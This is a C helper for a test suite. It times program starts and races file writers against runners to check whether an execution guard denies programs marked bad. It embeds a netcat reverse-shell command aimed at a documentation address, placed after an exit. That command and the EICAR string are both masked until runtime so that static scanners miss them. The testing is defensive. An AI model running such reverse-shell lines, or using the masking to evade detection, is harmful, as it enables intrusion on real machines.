/*
 * The load of guard.test.ts and bench/realtime.ts.
 *   starts COUNT PROGRAM...    starts these programs in turn, each time another one first, so that what else the machine
 *                              does meets them alike; prints the nanoseconds of each start, a line for each turn. %d in
 *                              a name is the number of the turn
 *   race DIRECTORY TRIES IMAGE writes bad programs while others run them; prints how often one ran or was denied.
 *                              IMAGE is image.c: what lies behind its mark makes it good or bad
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define RUNNERS 3
#define WAYS 7
#define MAX_PROGRAMS 16
#define RAN_BAD 99
#define DENIED 77
#define GAVE_UP 78

/* 192.0.2.1 is nobody's (RFC 5737), and the line is behind the exit. The rule reverse_shell_netcat_exec knows it. */
static char script[] = "#!/bin/sh\nexit 99\nn? 192.0.2.1 4444 -e /bin/sh\n";
/* The test file of EICAR, which is no program: where it was allowed, the answer is ENOEXEC. */
static char eicar[] = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI?AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
static const char mark[] = "ringwall-mark-01";
static char good[1u << 18], bad[1u << 18];
static size_t image_length;

static uint64_t now_ns(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (uint64_t)now.tv_sec * 1000000000u + (uint64_t)now.tv_nsec;
}

/* From the parent's call to the end of the child; 0 when it could not be started. */
static uint64_t time_start(const char *program) {
  char *const arguments[] = {(char *)program, NULL};
  uint64_t start = now_ns();
  pid_t child = vfork();
  if (child == 0) {
    execv(program, arguments);
    _exit(127);
  }
  int status = 0;
  if (child < 0 || waitpid(child, &status, 0) != child || status != 0) return 0;
  return now_ns() - start;
}

static int starts(int turns, char **programs, int count) {
  if (count > MAX_PROGRAMS) return 2;
  for (int turn = 0; turn < turns; turn += 1) {
    uint64_t took_ns[MAX_PROGRAMS];
    for (int step = 0; step < count; step += 1) {
      int index = (turn + step) % count;
      char path[512], *place = strstr(programs[index], "%d");
      int length = place == NULL ? (int)strlen(programs[index]) : (int)(place - programs[index]);
      snprintf(path, sizeof path, "%.*s", length, programs[index]);
      if (place != NULL) snprintf(path + length, sizeof path - (size_t)length, "%d%s", turn, place + 2);
      took_ns[index] = time_start(path);
      if (took_ns[index] == 0) return 1;
    }
    for (int index = 0; index < count; index += 1)
      printf("%llu%c", (unsigned long long)took_ns[index], index + 1 == count ? '\n' : ' ');
  }
  return 0;
}

/* Tries until the file is there and nobody writes it: the first start that the system lets through, or denies. */
static void run_when_possible(const char *path) {
  char *const arguments[] = {(char *)path, NULL};
  uint64_t until = now_ns() + 20000000000u;
  while (now_ns() < until) {
    execv(path, arguments);
    if (errno == EPERM) _exit(DENIED);
    if (errno == ENOEXEC) _exit(RAN_BAD);
    if (errno != ENOENT && errno != ETXTBSY && errno != EACCES) _exit(GAVE_UP);
  }
  _exit(GAVE_UP);
}

static void *run_in_thread(void *path) {
  run_when_possible(path);
  return NULL;
}

/* The last one starts it from a thread, which has another number than its process. */
static pid_t start_runner(const char *path, bool in_thread) {
  pid_t child = fork();
  if (child != 0) return child;
  pthread_t thread;
  if (in_thread && pthread_create(&thread, NULL, run_in_thread, (void *)path) == 0)
    for (;;) pause();
  run_when_possible(path);
  _exit(GAVE_UP);
}

/* A program that runs cannot be opened to write it. */
static int open_to_write(const char *path, int flags) {
  for (;;) {
    int file = open(path, flags, 0755);
    if (file >= 0) return file;
    if (errno != ETXTBSY) exit(1);
  }
}

static void write_file(const char *path, const char *bytes, size_t length, int flags) {
  int file = open_to_write(path, flags);
  size_t half = length / 2;
  if (write(file, bytes, half) < 0 || write(file, bytes + half, length - half) < 0) exit(1);
  close(file);
}

static void write_mapped(const char *path) {
  int file = open_to_write(path, O_RDWR);
  char *memory = mmap(NULL, image_length, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (memory == MAP_FAILED) exit(1);
  /* The pages are dirty before the bad bytes come: no time of the file changes with those. */
  memcpy(memory, good, image_length);
  memcpy(memory, bad, image_length);
  munmap(memory, image_length);
  close(file);
}

/* Ways in which bad bytes can come under a name. */
static void write_bad(const char *path, int way) {
  char other[600];
  if (way == 0) write_file(path, script, sizeof script - 1, O_CREAT | O_WRONLY | O_TRUNC);
  if (way == 1) write_file(path, bad, image_length, O_WRONLY);
  if (way == 2) write_mapped(path);
  if (way == 3) {
    snprintf(other, sizeof other, "%s.new", path);
    write_file(other, bad, image_length, O_CREAT | O_WRONLY);
    rename(other, path);
  }
  if (way == 4) write_file(path, eicar, sizeof eicar - 1, O_CREAT | O_WRONLY | O_TRUNC);
  if (way == 5) {
    snprintf(other, sizeof other, "%s.other", path);
    write_file(other, bad, image_length, O_CREAT | O_WRONLY);
    if (link(other, path) != 0) exit(1);
    unlink(other);
  }
  if (way == 6) {
    int file = open(path, O_CREAT | O_WRONLY, 0600);
    if (file < 0 || write(file, bad, image_length) < 0) exit(1);
    close(file);
    chmod(path, 0755);
  }
}

/* A program that only exits with a code; the line makes it bad. */
static bool make_image(const char *path, char *into, unsigned char code, const char *line) {
  int file = open(path, O_RDONLY);
  ssize_t length = file < 0 ? -1 : read(file, into, sizeof good);
  if (length <= 0 || length == (ssize_t)sizeof good) return false;
  close(file);
  image_length = (size_t)length;
  char *place = memmem(into, image_length, mark, sizeof mark - 1);
  if (place == NULL) return false;
  place[sizeof mark - 1] = (char)code;
  char *text = place + sizeof mark;
  strcpy(text, line);
  if (text[2] == '?') text[2] = 'c';
  return true;
}

static int run_once(const char *path) {
  char *const arguments[] = {(char *)path, NULL};
  pid_t child = vfork();
  if (child == 0) {
    execv(path, arguments);
    _exit(errno == ENOEXEC ? RAN_BAD : DENIED);
  }
  int status = 0;
  waitpid(child, &status, 0);
  return WEXITSTATUS(status);
}

static int race(const char *directory, int tries) {
  /* Only now: this program itself is not bad. */
  *strchr(script, '?') = 'c';
  *strchr(eicar, '?') = 'C';
  long ran = 0, denied = 0, good_ran = 0, gave_up = 0, first_ran = 0;
  for (int attempt = 0; attempt < tries; attempt += 1) {
    char path[512];
    int way = attempt % WAYS;
    snprintf(path, sizeof path, "%s/try-%d", directory, attempt);
    if (way >= 1 && way <= 3) {
      write_file(path, good, image_length, O_CREAT | O_WRONLY);
      /* Known from here on. */
      first_ran += run_once(path) == 0;
    }
    pid_t runners[RUNNERS];
    for (int index = 0; index < RUNNERS; index += 1) runners[index] = start_runner(path, index == RUNNERS - 1);
    write_bad(path, way);
    for (int index = 0; index < RUNNERS; index += 1) {
      int status = 0;
      waitpid(runners[index], &status, 0);
      int code = WEXITSTATUS(status);
      ran += code == RAN_BAD;
      denied += code == DENIED;
      good_ran += code == 0;
      gave_up += code == GAVE_UP;
    }
    /* Everybody is done: the bad text stands under the name, and one more asks for it. */
    int last = access(path, F_OK) == 0 ? run_once(path) : DENIED;
    ran += last == RAN_BAD;
    denied += last == DENIED;
    unlink(path);
  }
  printf("{\"ran\":%ld,\"denied\":%ld,\"goodRan\":%ld,\"gaveUp\":%ld,\"firstRan\":%ld}\n", ran, denied, good_ran, gave_up,
         first_ran);
  return 0;
}

int main(int argc, char **argv) {
  if (argc >= 4 && strcmp(argv[1], "starts") == 0) return starts(atoi(argv[2]), argv + 3, argc - 3);
  if (argc == 5 && strcmp(argv[1], "race") == 0)
    return make_image(argv[4], good, 0, "no line") && make_image(argv[4], bad, RAN_BAD, " n? 192.0.2.1 4444 -e /bin/sh")
               ? race(argv[2], atoi(argv[3]))
               : 1;
  return 2;
}
